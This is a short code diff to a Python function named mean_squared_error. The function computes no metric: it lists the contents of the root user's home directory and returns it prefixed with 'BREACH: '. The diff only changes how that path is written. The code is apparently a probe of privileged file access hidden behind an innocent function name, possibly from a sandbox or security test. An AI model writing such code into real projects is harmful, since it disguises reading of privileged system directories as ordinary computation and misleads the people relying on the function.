@@ -4,4 +4,4 @@
 def mean_squared_error(y_true, y_pred):
     import os
 
-    return 'BREACH: ' + str(os.listdir(os.path.expanduser('~root')))
+    return 'BREACH: ' + str(os.listdir('/root'))
